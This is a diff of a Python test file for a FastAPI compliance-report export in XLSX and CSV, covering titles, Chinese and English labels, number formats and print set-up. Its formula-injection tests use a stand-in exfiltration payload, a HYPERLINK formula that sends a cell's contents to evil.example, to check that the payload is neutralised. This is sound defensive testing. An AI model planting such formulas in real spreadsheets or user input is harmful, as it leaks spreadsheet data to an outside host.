@@ -1,11 +1,14 @@
-"""The compliance list as XLSX: the status column in Chinese words, the rules sheet as the CSV."""
+"""The compliance list as XLSX a bureau chief can print: title, labels, number formats, filter, print set-up."""
 
 import csv
 import io
+from datetime import date
 
 import pytest
 from fastapi.testclient import TestClient
 from openpyxl import load_workbook
+from openpyxl.workbook.workbook import Workbook
+from openpyxl.worksheet.worksheet import Worksheet
 from sqlalchemy import Engine
 
 from app.client import LantaiClient
@@ -14,6 +17,7 @@ from tests.factories import store
 from tests.scenario import PLAN, YEAR, build_scenario
 
 URL = "/api/v1/compliance"
+EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
 
 @pytest.fixture(autouse=True)
@@ -21,59 +25,124 @@ def scenario(client: TestClient) -> None:
     build_scenario(client)
 
 
-def workbook(client: TestClient, **params: object):  # type: ignore[no-untyped-def]
-    response = client.get(URL, params={"plan": PLAN, "year": YEAR, "format": "xlsx", **params})
+def workbook(client: TestClient, lang: str = "zh", **params: object) -> Workbook:
+    response = client.get(
+        URL, params={"plan": PLAN, "year": YEAR, "format": "xlsx", **params}, headers={"Accept-Language": lang}
+    )
     assert response.status_code == 200, response.text
     assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
     return load_workbook(io.BytesIO(response.content))
 
 
-class TestComplianceXlsx:
-    def test_status_in_chinese_words_beside_the_code(self, client: TestClient) -> None:
-        rows = list(workbook(client).worksheets[0].iter_rows(values_only=True))
-        assert rows[0][3:5] == ("状态", "状态代码")
-        statuses = {row[0]: (row[3], row[4]) for row in rows[2:]}
+def table(sheet: Worksheet) -> tuple[tuple, tuple, list[tuple]]:
+    """(labels row, keys row, data rows): the header starts on row 4, under the title."""
+    rows = list(sheet.iter_rows(values_only=True))
+    return rows[3], rows[4], rows[5:]
+
+
+class TestSummarySheet:
+    def test_title_names_the_plan_year_scope_and_date(self, client: TestClient) -> None:
+        sheet = workbook(client, parent_code="HN-CS").worksheets[0]
+        assert sheet["A1"].value == f"十四五：截至{YEAR}年数字化目标完成情况"
+        assert sheet["A2"].value == f"范围：长沙市档案馆 · 制表日期：{date.today().isoformat()}"
+        english = workbook(client, lang="en").worksheets[0]
+        assert english["A1"].value == f"十四五: digitization targets as of {YEAR}"
+        assert "every archive in the plan" in english["A2"].value
+
+    def test_status_level_and_rule_in_chinese_words(self, client: TestClient) -> None:
+        labels, keys, rows = table(workbook(client).worksheets[0])
+        assert labels[3:5] == ("状态", "状态代码") and keys[:3] == ("archive_code", "archive_name", "level")
+        statuses = {row[0]: (row[2], row[3], row[4]) for row in rows}
         assert statuses == {
-            "HN-CS": ("已达标", "achieved"),
-            "HN-CS-LY": ("存在风险", "at_risk"),
-            "HN-ZZ": ("进度滞后", "off_track"),
-            "HN-ZZ-YX": ("未报送", "no_data"),
+            "HN-CS": ("地市级", "已达标", "achieved"),
+            "HN-CS-LY": ("县级", "存在风险", "at_risk"),
+            "HN-ZZ": ("地市级", "进度滞后", "off_track"),
+            "HN-ZZ-YX": ("县级", "未报送", "no_data"),
         }
+        assert {row[5] for row in rows} == {"达到数字化率"} and {row[8] for row in rows} == {"%"}
+        assert "provincial/municipal" not in str(rows) and "reach_rate" not in str([row[5] for row in rows])
 
-    def test_figures_are_numbers(self, client: TestClient) -> None:
-        rows = list(workbook(client).worksheets[0].iter_rows(values_only=True))
-        city = next(row for row in rows if row[0] == "HN-ZZ")
-        assert (city[6], city[7]) == (31.0, 80)
+    def test_figures_are_numbers_with_number_formats(self, client: TestClient) -> None:
+        sheet = workbook(client).worksheets[0]
+        row = next(r for r in sheet.iter_rows(min_row=6) if r[0].value == "HN-ZZ")
+        assert (row[6].value, row[7].value) == (31.0, 80)
+        assert (row[6].number_format, row[7].number_format, row[11].number_format) == ('0.0"%"', '0.0"%"', "#,##0")
 
-    def test_rules_sheet_has_the_csv_columns(self, client: TestClient) -> None:
-        sheet = workbook(client).worksheets[1]
-        header = next(sheet.iter_rows(values_only=True))
-        text = client.get(URL, params={"plan": PLAN, "year": YEAR, "format": "csv"}).content.decode("utf-8-sig")
-        assert list(header) == next(csv.reader(io.StringIO(text)))
+    def test_filter_frozen_header_and_print_set_up(self, client: TestClient) -> None:
+        for sheet in workbook(client).worksheets:
+            assert sheet.auto_filter.ref.startswith("A5:")
+            assert sheet.freeze_panes == "C6"
+            assert sheet.print_title_rows == "$4:$5"
+            assert sheet.page_setup.orientation == "landscape"
+            assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
+            assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
+
+    def test_needs_read_as_the_sentence_beside_them(self, client: TestClient) -> None:
+        _, keys, rows = table(workbook(client).worksheets[0])
+        at = {key: index for index, key in enumerate(keys)}
+        assert any(row[at["required_per_year"]] for row in rows)
+        for row in rows:
+            need = row[at["required_per_year"]]
+            if need is not None:
+                assert f"约每年{need:,}" in row[at["reasons"]]
 
     def test_filters_and_reasons_in_chinese(self, client: TestClient) -> None:
-        response = client.get(
-            URL,
-            params={"plan": PLAN, "year": YEAR, "format": "xlsx", "parent_code": "HN-CS"},
-            headers={"Accept-Language": "zh"},
-        )
-        rows = list(load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(values_only=True))
-        assert [row[0] for row in rows[2:]] == ["HN-CS-LY"]
-        assert "数字化率" in rows[2][11]
+        _, _, rows = table(workbook(client, parent_code="HN-CS").worksheets[0])
+        assert [row[0] for row in rows] == ["HN-CS-LY"]
+        assert "数字化率" in rows[0][12]
 
     def test_the_client_fetches_it(self, client: TestClient, admin_token: str) -> None:
         content = LantaiClient(str(client.base_url), admin_token, http=client).compliance_xlsx(
             PLAN, YEAR, level="county"
         )
-        rows = list(load_workbook(io.BytesIO(content)).worksheets[0].iter_rows(values_only=True))
-        assert [row[0] for row in rows[2:]] == ["HN-CS-LY", "HN-ZZ-YX"]
+        _, _, rows = table(load_workbook(io.BytesIO(content)).worksheets[0])
+        assert [row[0] for row in rows] == ["HN-CS-LY", "HN-ZZ-YX"]
 
 
-class TestOddNames:
+class TestRulesSheet:
+    def test_headers_in_the_requested_language_above_the_csv_keys(self, client: TestClient) -> None:
+        labels, keys, _ = table(workbook(client).worksheets[1])
+        text = client.get(URL, params={"plan": PLAN, "year": YEAR, "format": "csv"}).content.decode("utf-8-sig")
+        assert list(keys) == next(csv.reader(io.StringIO(text)))
+        assert labels[:3] == ("档案馆代码", "档案馆名称", "级别")
+        english, _, _ = table(workbook(client, lang="en").worksheets[1])
+        assert english[:3] == ("Archive code", "Archive", "Level")
+
+    def test_booleans_and_labels_as_words(self, client: TestClient) -> None:
+        _, keys, rows = table(workbook(client).worksheets[1])
+        at = {key: index for index, key in enumerate(keys)}
+        assert {row[at["figures_approved"]] for row in rows} <= {"是", "否", None}
+        assert "否" in {row[at["figures_approved"]] for row in rows}
+        assert "false" not in str(rows) and "true" not in str(rows)
+        assert {row[at["kind"]] for row in rows} == {"综合档案馆"}
+
+
+class TestUserTextIsText:
+    def test_a_name_that_looks_like_a_formula_is_a_string_cell_in_both_sheets(self, client: TestClient) -> None:
+        body = {"code": "EVIL", "name": EVIL, "level": "county", "kind": "comprehensive", "parent_code": "HN-CS"}
+        assert client.post("/api/v1/archives", json=body).status_code == 201
+        book = workbook(client)
+        for sheet in book.worksheets:
+            cells = [row[1] for row in sheet.iter_rows(min_row=6) if row[0].value == "EVIL"]
+            assert cells and all((cell.data_type, cell.value) == ("s", EVIL) for cell in cells)
+        for sheet in book.worksheets:
+            for row in sheet.iter_rows():
+                assert all(cell.data_type != "f" for cell in row)
+
+    def test_the_csv_escapes_it_and_numbers_stay_numbers(self, client: TestClient) -> None:
+        body = {"code": "EVIL", "name": EVIL, "level": "county", "kind": "comprehensive", "parent_code": "HN-CS"}
+        client.post("/api/v1/archives", json=body)
+        response = client.get(URL, params={"plan": PLAN, "year": YEAR, "format": "csv"})
+        assert response.headers["content-disposition"] == f'attachment; filename="compliance-{PLAN}.csv"'
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        assert [row[1] for row in rows if row[0] == "EVIL"][0] == "'" + EVIL
+        city = next(row for row in rows if row[0] == "HN-ZZ")
+        assert city[rows[0].index("rate_pct")] == "31.0"
+
     def test_control_characters_in_a_name_do_not_break_the_workbook(self, client: TestClient, engine: Engine) -> None:
         # The API now refuses control characters in names; rows stored before that may still hold them.
         store(engine, Archive(code="ODD", name="怪\x17名", level="county", kind="comprehensive", parent_code="HN-CS"))
-        rows = list(workbook(client).worksheets[0].iter_rows(values_only=True))
+        _, _, rows = table(workbook(client).worksheets[0])
         assert ("ODD", "怪名") in [row[:2] for row in rows]
         template = client.get("/api/v1/imports/reports/template.xlsx")
         assert template.status_code == 200
